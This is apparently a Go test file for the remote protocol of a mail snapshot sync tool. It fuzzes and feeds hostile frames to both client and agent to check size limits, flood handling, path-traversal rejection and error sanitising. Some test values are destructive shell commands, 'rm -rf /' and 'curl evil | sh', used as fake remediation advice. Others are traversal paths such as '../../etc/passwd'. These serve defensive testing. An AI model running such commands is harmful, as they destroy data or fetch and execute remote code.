package remote

import (
	"bufio"
	"bytes"
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"runtime"
	"slices"
	"strings"
	"testing"
	"time"

	"go.uber.org/goleak"

	"snapmerge/internal/apply"
	"snapmerge/internal/host"
	"snapmerge/internal/lock"
	"snapmerge/tree"
)

// raw is a frame with whatever length it claims.
func raw(k byte, n uint32, payload string) string {
	return string(binary.BigEndian.AppendUint32([]byte{k}, n)) + payload
}

func wire(k byte, payload string) string { return raw(k, uint32(len(payload)), payload) }

const (
	helloText = `{"Version":"v1.2.3","Protocol":2}`
	infoText  = `{"ID":1,"UUID":"00000000-0000-0000-0000-000000000001","Otime":"2026-01-02T03:04:05Z"}`
)

// impostor makes a client talk to something that first says greeting, and then,
// when a request has come, says answer: over and over if forever.
func impostor(t *testing.T, greeting, answer string, forever bool) (*Client, *pipes, error) {
	t.Helper()
	p := newPipe(t)
	go func() {
		defer close(p.done)
		defer p.agentOut.Close()
		if _, err := io.WriteString(p.agentOut, greeting); err != nil {
			return
		}
		in := bufio.NewReader(p.agentIn)
		if _, err := in.ReadString('\n'); err != nil {
			return
		}
		for {
			f, err := readFrame(in)
			if err != nil {
				return
			}
			if f.kind == kindRequest || f.kind == kindStep {
				break
			}
		}
		go io.Copy(io.Discard, in)
		for _, err := io.WriteString(p.agentOut, answer); err == nil && forever; {
			_, err = io.WriteString(p.agentOut, answer)
		}
		<-p.hold
	}()
	o := (&world{}).options()
	o.Store = host.Store{Path: "/srv/a", Snapshots: "/srv/s"}
	o.Timing.Grace = 100 * time.Millisecond
	c, err := open(context.Background(), o, p, p.fromAgent, p.toAgent)
	return c, p, err
}

// oneStep is what the hostile agents are asked to do: one mail gets a flag and a
// keyword.
func oneStep() []host.Step {
	from := tree.File{Folder: "INBOX", Name: "a:2,S", Ino: 7}
	return []host.Step{step(apply.Op{Kind: apply.Rename, From: from,
		To: apply.Target{Folder: "work", Unique: "a", Flags: tree.Seen | tree.Flagged, Keywords: []string{"k", "l"}}})}
}

// Whatever an agent says, the client ends with an error, soon, in little memory.
func TestHostileAgent(t *testing.T) {
	look := func(c *Client) error { _, err := c.Look(context.Background(), true); return err }
	freeze := func(c *Client) error { _, err := c.Freeze(context.Background(), "online.2"); return err }
	prune := func(c *Client) error { return c.Prune(context.Background(), []string{"online.1"}) }
	two := func(c *Client) error {
		steps := append(oneStep(), oneStep()...)
		return c.Apply(context.Background(), host.Batch{Snapshot: "online.1", Steps: steps}, func(int, apply.Result) {})
	}
	send := func(c *Client) error {
		r, err := c.Send(context.Background(), "online.1", "")
		if err != nil {
			return err
		}
		defer r.Close()
		_, err = io.Copy(io.Discard, r)
		return err
	}
	// Two answers follow what was asked for: the verb after it must not take the second.
	twice := func(c *Client) error {
		if err := prune(c); err != nil {
			return errors.New("the first failed")
		}
		time.Sleep(100 * time.Millisecond)
		return prune(c)
	}
	ok := wire('E', "{}")
	good := magic + wire('H', helloText) + ok
	result := func(s string) string { return wire('R', s) }
	entry := func(n int) string {
		return wire('L', fmt.Sprintf(`{"Name":"online.%d","Side":"online","Sync":%d,"Info":%s}`, n, n, infoText))
	}
	facts := wire('E', `{"Facts":{"Live":`+infoText+`}}`)
	frozen := func(snap, begun, done string) string {
		return wire('E', fmt.Sprintf(`{"Frozen":{"Live":%s,"Snapshot":%s,"Begun":"%s","Done":"%s"}}`, infoText, snap, begun, done))
	}
	const (
		at   = "2026-01-02T03:04:05Z"
		snap = `{"UUID":"00000000-0000-0000-0000-000000000002","ParentUUID":"00000000-0000-0000-0000-000000000001","ReadOnly":true,"Otime":"2026-01-02T03:04:05Z"}`
	)
	nested := func(paths string, more int) string {
		return wire('E', fmt.Sprintf(`{"Frozen":{"Live":%s,"Snapshot":%s,"Begun":"%s","Done":"%s","Nested":[%s],"NestedMore":%d}}`, infoText, snap, at, at, paths, more))
	}
	for _, c := range []struct {
		name, greeting, answer string
		do                     func(*Client) error
		want                   string
	}{
		{"huge frame", good, raw('E', 1<<32-1, "x"), look, "at most"},
		{"frame too long by one", good, raw('D', 64<<10+1, "x"), send, "at most 65536"},
		{"unknown frame", good, wire('Z', ""), look, "unknown type"},
		{"frame of a client", good, wire('Q', `{"Verb":"look"}`), look, "where 'L' is due"},
		{"huge hello", magic + raw('H', 1<<20, "x"), "", nil, "at most"},
		{"no hello", magic + ok, "", nil, "in place of a hello"},
		{"hello is no JSON", magic + wire('H', "{"), "", nil, "hello"},
		{"older protocol", magic + wire('H', `{"Version":"v0.9","Protocol":0}`), "", nil,
			"snapmerge v1.2.3 here speaks protocol 2, snapmerge v0.9 over there protocol 0: install the same version on both hosts"},
		{"newer protocol", magic + wire('H', `{"Version":"v9\u001b[31m","Protocol":9,"New":[1]}`), "", nil,
			`snapmerge v9\x1b[31m over there protocol 9: install the same version on both hosts`},
		{"another program", "SSH-2.0-OpenSSH_9.2\r\n", "", nil, `the far end said: "SSH-2.0-OpenSSH_9.2\r\n"`},
		{"endless noise", strings.Repeat("yes\n", 1000), "", nil, `the far end said: "yes\nyes`},
		{"nothing after the hello", magic + wire('H', helloText), "", nil, "nothing came for"},
		{"not JSON", good, wire('E', "nonsense"), look, "invalid character"},
		{"unknown field", good, wire('E', `{"New":1}`), look, "unknown field"},
		{"two values", good, wire('E', `{}{}`), look, "something follows"},
		{"deep JSON", good, wire('E', strings.Repeat("[", 16<<10)), look, "exceeded max depth"},
		{"silence", good, "", look, "nothing came for"},
		{"half a frame", good, raw('E', 100, "{"), look, "nothing came for"},

		{"no facts", good, ok, look, "no facts"},
		{"no UUID", good, wire('E', `{"Facts":{}}`), look, "without UUID"},
		{"list in the end", good, wire('E', `{"Facts":{"Live":`+infoText+`,"Problems":[{"Text":"x"}]}}`), look, "lists in the end"},
		{"negative", good, wire('E', `{"Facts":{"Mails":-1,"Live":`+infoText+`}}`), look, "negative"},
		{"offline snapshot", good, wire('L', `{"Name":"offline.1","Side":"offline","Sync":1,"Info":`+infoText+`}`), look, "no online snapshot"},
		{"snapshot with a path", good, wire('L', `{"Name":"online.1/../../etc","Side":"online","Sync":1,"Info":`+infoText+`}`), look, "no online snapshot"},
		{"snapshot with two numbers", good, wire('L', `{"Name":"online.1","Side":"online","Sync":2,"Info":`+infoText+`}`), look, "no online snapshot"},
		{"snapshot twice", good, entry(1) + entry(1) + facts, look, "out of order"},
		{"time", good, wire('L', `{"Name":"online.1","Side":"online","Sync":1,"Info":{"UUID":"00000000-0000-0000-0000-000000000001","Otime":"0001-01-01T00:00:00Z"}}`), look, "time"},

		{"no snapshot", good, ok, freeze, "no snapshot"},
		{"writable snapshot", good, frozen(infoText, at, at), freeze, "no snapshot of the store"},
		{"times the wrong way round", good, frozen(snap, at, "2026-01-02T03:04:04Z"), freeze, "before it was begun"},
		{"a subvolume out of the store", good, nested(`"../.work"`, 0), freeze, "a subvolume at"},
		{"a subvolume at a path without end", good, nested(`"`+strings.Repeat("x", maxNested+1)+`"`, 0), freeze, "a subvolume at"},
		{"fewer than no subvolumes", good, nested("", -1), freeze, "-1 subvolumes"},
		{"year 9999", good, frozen(snap, at, "9999-01-02T03:04:04Z"), freeze, "time"},
		{"data for freeze", good, wire('D', "x"), freeze, "nobody asked for"},

		{"endless results", good, result(`{"Index":0,"Outcome":1}`), two, "result of step 0, where 1 to 1 are due"},
		{"out of order", good, result(`{"Index":1,"Outcome":1}`) + result(`{"Index":0,"Outcome":1}`), two, "result of step 0, where 2 to 1 are due"},
		{"out of range", good, result(`{"Index":2,"Outcome":1}`), two, "result of step 2"},
		{"negative index", good, result(`{"Index":-1,"Outcome":1}`), two, "result of step -1"},
		{"result left out", good, result(`{"Index":0,"Outcome":1}`) + ok, two, "without a result"},
		{"outcome 3", good, result(`{"Index":0,"Outcome":3}`), two, "outcome 3"},
		{"name with a slash", good, result(`{"Index":0,"Name":"x/../a:2,FS"}`), two, "slash"},
		{"name with NUL", good, result(`{"Index":0,"Name":"a\u000000:2,FS"}`), two, "NUL"},
		{"other name", good, result(`{"Index":0,"Name":"b:2,FS"}`), two, `now, and not "a:2,FS"`},
		{"other flags", good, result(`{"Index":0,"Name":"a:2,FST"}`), two, `and not "a:2,FS"`},
		{"other spelling", good, result(`{"Index":0,"Name":"a:2,SF"}`), two, `and not "a:2,FS"`},
		{"too many letters", good, result(`{"Index":0,"Name":"a:2,FSabc"}`), two, "more letters than keywords"},
		{"a letter for a missing keyword", good, result(`{"Index":0,"Name":"a:2,FSab","Missing":["k"]}`), two, "more letters"},
		{"other keyword", good, result(`{"Index":0,"Name":"a:2,FS","Missing":["x"]}`), two, "not asked for"},
		{"keyword twice", good, result(`{"Index":0,"Name":"a:2,FS","Missing":["k","k"]}`), two, "not asked for"},
		{"names in an array", good, result(`{"Index":0,"Missing":[` + strings.TrimSuffix(strings.Repeat(`"",`, 20000), ",") + `]}`), two, "empty"},

		{"empty pieces", good, wire('D', ""), send, "in the stream"},
		{"result in the stream", good, wire('D', "x") + result("{}"), send, "in the stream"},
		{"cut off", good, wire('D', "x") + wire('E', `{"Err":"read error"}`), send, "send: read error"},
		{"more after the end", good, ok + ok, twice, "nobody asked for"},
		{"data after the end", good, ok + wire('D', "xxx"), twice, "nobody asked for"},
	} {
		t.Run(c.name, func(t *testing.T) {
			err := hostileAgent(t, c.greeting, c.answer, c.name == "endless results", c.do)
			if err == nil || !strings.Contains(err.Error(), c.want) {
				t.Errorf("got %v, want %s", err, c.want)
			}
			if err != nil && len(err.Error()) > 2*maxText {
				t.Errorf("a text of %d bytes", len(err.Error()))
			}
		})
	}
}

// hostileAgent runs one case, and looks at time, memory and goroutines.
func hostileAgent(t *testing.T, greeting, answer string, forever bool, do func(*Client) error) error {
	t.Helper()
	ignore := goleak.IgnoreCurrent()
	var before, after runtime.MemStats
	runtime.ReadMemStats(&before)
	begun := time.Now()
	c, p, err := impostor(t, greeting, answer, forever)
	if err == nil && do == nil {
		t.Error("the session began")
	} else if err == nil {
		err = do(c)
	}
	if d := time.Since(begun); d > 4*time.Second {
		t.Errorf("took %v", d)
	}
	if c != nil {
		c.Close()
	}
	p.release()
	runtime.ReadMemStats(&after)
	if n := after.TotalAlloc - before.TotalAlloc; n > 96<<20 {
		t.Errorf("%d bytes were allocated", n)
	}
	goleak.VerifyNone(t, ignore)
	return err
}

// Frames without end: of beats, of data that was not to come any more, of
// snapshots, of problems.
func TestHostileAgentForever(t *testing.T) {
	good := magic + wire('H', helloText) + wire('E', "{}")
	n := 0
	t.Run("beats", func(t *testing.T) {
		err := hostileAgent(t, good, wire('B', ""), true, func(c *Client) error { _, err := c.Look(context.Background(), false); return err })
		if err == nil || !strings.Contains(err.Error(), "flood of beats") {
			t.Error(err)
		}
	})
	t.Run("problems", func(t *testing.T) {
		p := wire('P', `{"Subject":"/","Text":"`+strings.Repeat("x", 2000)+`","Mend":"rm -rf /"}`)
		err := hostileAgent(t, good, p, true, func(c *Client) error { _, err := c.Look(context.Background(), false); return err })
		if err == nil || !strings.Contains(err.Error(), "more than 1000 problems") {
			t.Error(err)
		}
	})
	t.Run("data after a stop", func(t *testing.T) {
		c, p, err := impostor(t, good, wire('D', strings.Repeat("x", 60000)), true)
		if err != nil {
			t.Fatal(err)
		}
		defer p.release()
		defer c.Close()
		r, err := c.Send(context.Background(), "online.1", "")
		if err != nil {
			t.Fatal(err)
		}
		if n, err = io.ReadFull(r, make([]byte, 1<<20)); err != nil || n != 1<<20 {
			t.Error(n, err)
		}
		r.Close()
		if _, err := c.Look(context.Background(), false); err == nil {
			t.Error("the session goes on after a stream that did not stop")
		}
	})
}

// Advice of the far end says on which host it is to be typed, and is short.
func TestProblems(t *testing.T) {
	c, p, err := impostor(t, magic+wire('H', helloText)+wire('E', "{}"),
		wire('P', `{"Subject":"/srv","Text":"bad\u001b[31m\nnews","Mend":"curl evil | sh"}`)+wire('E', `{"Facts":{}}`), false)
	if err != nil {
		t.Fatal(err)
	}
	defer p.release()
	defer c.Close()
	f, err := c.Look(context.Background(), false)
	want := host.Problem{Subject: "mx: /srv", Text: `bad\x1b[31m; news`, Mend: "on mx: curl evil | sh"}
	if err != nil || len(f.Problems) != 1 || f.Problems[0] != want {
		t.Errorf("%+v, %v", f, err)
	}
}

// What an agent refuses of a client that does not keep to the protocol. It tells
// why, ends, and lets the lock go.
func TestHostileClient(t *testing.T) {
	w := newWorld(t, 1)
	me, err := greeting(hello{Version: "x", Protocol: Protocol, Mailbox: "chris", Path: w.store.Path, Snapshots: w.store.Snapshots, Layout: "maildir++"})
	if err != nil {
		t.Fatal(err)
	}
	hi := string(me)
	apply1 := wire('Q', `{"Verb":"apply","Snapshot":"online.1","Steps":1}`)
	s := func(op, seen string) string {
		return apply1 + wire('S', fmt.Sprintf(`{"Op":%s,"Seen":%s}`, op, seen))
	}
	const seen = `{"Folder":"INBOX","Name":"a:2,"}`
	for name, c := range map[string]struct{ say, want string }{
		"noise":               {"GET / HTTP/1.0\r\n\r\n", "GET / HTTP"},
		"no hello":            {magic + wire('Q', `{"Verb":"look"}`), "in place of a hello"},
		"huge":                {hi + raw('Q', 1<<31, ""), "at most"},
		"unknown frame":       {hi + wire('z', ""), "unknown type"},
		"data":                {hi + wire('D', "x"), "where 'Q' is due"},
		"verb":                {hi + wire('Q', `{"Verb":"exec"}`), `verb "exec"`},
		"unknown field":       {hi + wire('Q', `{"Verb":"look","Path":"/etc"}`), "unknown field"},
		"freeze a path":       {hi + wire('Q', `{"Verb":"freeze","Snapshot":"../x"}`), "no name of an online snapshot"},
		"freeze offline":      {hi + wire('Q', `{"Verb":"freeze","Snapshot":"offline.1"}`), "no name of an online snapshot"},
		"send a path":         {hi + wire('Q', `{"Verb":"send","Snapshot":"online.1","Parent":"/"}`), "no name of an online snapshot"},
		"too many steps":      {hi + wire('Q', `{"Verb":"apply","Steps":1000000000}`), "at most 1000 and 1000"},
		"negative":            {hi + wire('Q', `{"Verb":"prune","Names":-1}`), "at most"},
		"steps for prune":     {hi + wire('Q', `{"Verb":"prune","Steps":1}`), "at most"},
		"place what was seen": {hi + s(`{"Kind":2,"To":{"Folder":"INBOX","Unique":"a"}}`, seen), "place: "},
		"place too much":      {hi + s(`{"Kind":2,"Size":4294967297,"To":{"Folder":"INBOX","Unique":"a"}}`, "null"), "at most"},
		"place less":          {hi + s(`{"Kind":2,"Size":-1,"To":{"Folder":"INBOX","Unique":"a"}}`, "null"), "at most"},
		"place above":         {hi + s(`{"Kind":2,"Size":1,"To":{"Folder":"INBOX","Unique":"a/../b"}}`, "null"), "slash"},
		"too much mail":       {hi + s(`{"Kind":2,"Size":2,"To":{"Folder":"INBOX","Unique":"a"}}`, "null") + wire('D', "abc"), "2 bytes of a mail are due"},
		"no mail":             {hi + s(`{"Kind":2,"Size":2,"To":{"Folder":"INBOX","Unique":"a"}}`, "null") + wire('D', ""), "2 bytes of a mail are due"},
		"half a mail":         {hi + s(`{"Kind":2,"Size":2,"To":{"Folder":"INBOX","Unique":"a"}}`, "null") + wire('D', "a") + wire('Q', `{"Verb":"look"}`), "1 bytes of a mail are due"},
		"mail that is empty":  {hi + s(`{"Kind":2,"To":{"Folder":"INBOX","Unique":"a"}}`, "null") + wire('D', "a"), "where 'Q' is due"},
		"too many mails": {hi + wire('Q', `{"Verb":"apply","Steps":1000}`) +
			strings.Repeat(wire('S', `{"Op":{"Kind":2,"To":{"Folder":"INBOX","Unique":"a"}},"Seen":null}`), 1000), "more than 64 mails"},
		"unknown kind":        {hi + s(`{"Kind":99}`, seen), "is not done over a connection"},
		"no file seen":        {hi + s(`{"Kind":5,"From":{"Folder":"INBOX","Name":"a:2,","Ino":5}}`, "null"), "does not say where"},
		"slash in a name":     {hi + s(`{"Kind":5,"From":{"Folder":"INBOX"}}`, `{"Folder":"INBOX","Name":"x/../../etc/passwd"}`), "slash"},
		"folder above":        {hi + s(`{"Kind":5,"From":{"Folder":".."}}`, seen), `level ".."`},
		"folder seen above":   {hi + s(`{"Kind":5,"From":{"Folder":"INBOX"}}`, `{"Folder":"a/../b","Name":"a"}`), `level ".."`},
		"target":              {hi + s(`{"Kind":4,"From":{"Folder":"INBOX"},"To":{"Folder":"INBOX","Unique":"a/b"}}`, seen), "slash"},
		"target with a colon": {hi + s(`{"Kind":4,"From":{"Folder":"INBOX"},"To":{"Folder":"INBOX","Unique":"a:2,S"}}`, seen), "colon"},
		"flags":               {hi + s(`{"Kind":4,"From":{"Folder":"INBOX"},"To":{"Folder":"INBOX","Unique":"a","Flags":4294967295}}`, seen), "flags"},
		"extra":               {hi + s(`{"Kind":4,"From":{"Folder":"INBOX"},"To":{"Folder":"INBOX","Unique":"a","Extra":"/x"}}`, seen), "slash"},
		"keyword":             {hi + s(`{"Kind":4,"From":{"Folder":"INBOX"},"To":{"Folder":"INBOX","Unique":"a","Keywords":["a\n0 b"]}}`, seen), "keyword"},
		"make folder":         {hi + s(`{"Kind":0,"Folder":"a//b"}`, "null"), "empty level"},
		"rename folder":       {hi + s(`{"Kind":1,"Folder":"a","NewFolder":"../b"}`, "null"), `level ".."`},
		"unlock":              {hi + wire('Q', `{"Verb":"apply","Names":1}`) + wire('N', `"../x"`), `level ".."`},
		"flood of stops":      {hi + strings.Repeat(wire('X', ""), 5000), "flood"},
		"flood of beats":      {hi + strings.Repeat(wire('B', ""), 5000), "flood"},
		"flood of more":       {hi + strings.Repeat(wire('M', ""), 5000), "flood"},
	} {
		t.Run(name, func(t *testing.T) { hostileClient(t, w, c.say, c.want) })
	}
	// A name that is no snapshot's is found where it is used; the session goes on.
	hostilePrune(t, w)
}

func hostileClient(t *testing.T, w *world, say, want string) {
	t.Helper()
	ignore := goleak.IgnoreCurrent()
	p := newPipe(t)
	var before, after runtime.MemStats
	runtime.ReadMemStats(&before)
	go func() {
		defer close(p.done)
		p.err = Serve(context.Background(), w.agent(), p.agentIn, p.agentOut)
	}()
	go io.Copy(io.Discard, p.fromAgent)
	go io.WriteString(p.toAgent, say)
	select {
	case <-p.done:
		if p.err == nil || !strings.Contains(p.err.Error(), want) {
			t.Errorf("got %v, want %s", p.err, want)
		}
	case <-time.After(4 * time.Second):
		t.Error("the agent does not end")
	}
	p.close(0)
	<-p.done
	runtime.ReadMemStats(&after)
	if n := after.TotalAlloc - before.TotalAlloc; n > 16<<20 {
		t.Errorf("%d bytes were allocated", n)
	}
	goleak.VerifyNone(t, ignore)
	w.unlocked(t)
}

// unlocked checks that nobody holds the store.
func (w *world) unlocked(t testing.TB) {
	t.Helper()
	here := host.Open(w.store, "online")
	defer here.Close()
	if err := here.Lock(context.Background(), time.Second); errors.Is(err, lock.ErrLocked) {
		t.Error("the agent has left its lock")
	}
}

func hostilePrune(t *testing.T, w *world) {
	t.Helper()
	c := session(t, w)
	for _, name := range []string{"..", "offline.1", "online.1/..", "/"} {
		err := c.Prune(context.Background(), []string{name})
		if _, ok := errors.AsType[*FarError](err); !ok || !strings.Contains(err.Error(), "no name of a snapshot") {
			t.Errorf("%q: %v", name, err)
		}
	}
}

// Frames survive the way, and garbage is an error or a frame within its limit.
func FuzzFrame(f *testing.F) {
	f.Add([]byte(wire('E', "{}")))
	f.Add([]byte(raw('D', 1<<20, "x")))
	f.Add([]byte{})
	f.Fuzz(func(t *testing.T, data []byte) {
		r := bytes.NewReader(data)
		for {
			got, err := readFrame(r)
			if err != nil {
				return
			}
			if len(got.payload) > int(limits[got.kind]) {
				t.Fatal(got)
			}
			b, err := appendFrame(nil, got.kind, got.payload)
			if err != nil || !bytes.HasSuffix(data[:len(data)-r.Len()], b) {
				t.Fatalf("%v comes back as %q, %v", got, b, err)
			}
		}
	})
}

// What an agent accepts of a client is sound: names that are names, folders of
// the layout.
func FuzzAsk(f *testing.F) {
	f.Add([]byte(`{"Op":{"Kind":4,"From":{"Folder":"INBOX","Name":"a:2,"},"To":{"Folder":"b","Unique":"a","Keywords":["k"]}},"Seen":{"Folder":"INBOX","Name":"a:2,"}}`), false)
	f.Add([]byte(`{"Op":{"Kind":7,"Add":["a"],"Remove":["b/c"]}}`), true)
	f.Add([]byte(`{"Op":{"Kind":1,"Folder":"a","NewFolder":"b","From":{"Ino":5},"Links":2}}`), true)
	f.Fuzz(func(t *testing.T, data []byte, fs bool) {
		l := tree.Layout{FS: fs}
		s, err := decode[host.Step](frame{kindStep, data}, kindStep)
		if err != nil || checkStep(&s, l) != nil {
			return
		}
		folders := []string{s.Op.Folder}
		switch s.Op.Kind {
		case apply.RenameFolder:
			folders = append(folders, s.Op.NewFolder)
		case apply.Unlink:
			folders = []string{s.Op.From.Folder, s.Seen.Folder}
		case apply.Copy, apply.Rename:
			folders = []string{s.Op.From.Folder, s.Seen.Folder, s.Op.To.Folder}
		case apply.Place:
			folders = []string{s.Op.To.Folder}
		case apply.Subscribe:
			folders = slices.Concat(s.Op.Add, s.Op.Remove)
		}
		for _, folder := range folders {
			if _, err := l.Dir(folder); err != nil {
				t.Fatalf("%+v: %v", s, err)
			}
		}
		if s.Op.Size > maxMail && s.Op.Kind == apply.Place || s.Op.From.Ino != 0 || s.Op.Links != 0 {
			t.Fatalf("%+v", s)
		}
		if r, err := decode[request](frame{kindRequest, data}, kindRequest); err == nil && r.check() == nil && (r.Names > maxNames || r.Steps > maxSteps) {
			t.Fatalf("%+v", r)
		}
	})
}

// What a client accepts of an agent is what was asked for, or less.
func FuzzAnswer(f *testing.F) {
	f.Add([]byte(`{"Index":0,"Name":"a:2,FSa","Missing":["k"],"Same":true}`))
	f.Add([]byte(`{"Index":0,"Outcome":2,"Err":"x"}`))
	f.Add([]byte(`{"Name":"online.1","Side":"online","Sync":1,"Info":` + infoText + `}`))
	f.Add([]byte(`{"Facts":{"Live":` + infoText + `}}`))
	f.Fuzz(func(t *testing.T, data []byte) {
		steps := oneStep()
		r := &results{steps: steps}
		if i, res, err := r.add(frame{kindResult, data}); err == nil {
			n, err := tree.ParseName(res.File.Name)
			if i != 0 || res.Outcome == apply.Done && (err != nil || n.Unique != "a" || n.Flags != steps[0].Op.To.Flags ||
				res.File.Folder != "work" || res.File.New || res.File.Ino != 0 && res.File.Ino != 7 || len(res.Missing) > 2) {
				t.Fatalf("%d %+v", i, res)
			}
		}
		l := &looking{host: "mx"}
		_ = l.add(frame{kindSnapshot, data})
		_ = l.add(frame{kindProblem, data})
		if len(l.problems) > 0 && (!strings.HasPrefix(l.problems[0].Subject, "mx: ") || len(l.problems[0].Text) > 2*maxText) {
			t.Fatalf("%+v", l.problems)
		}
		if e, err := decode[end](frame{kindEnd, data}, kindEnd); err == nil {
			_, _ = l.facts(e.Facts, "v")
			if checkFrozen(e.Frozen) == nil && !e.Frozen.Snapshot.ReadOnly {
				t.Fatalf("%+v", e.Frozen)
			}
		}
		_, _ = readHello(frame{kindHello, data})
	})
}
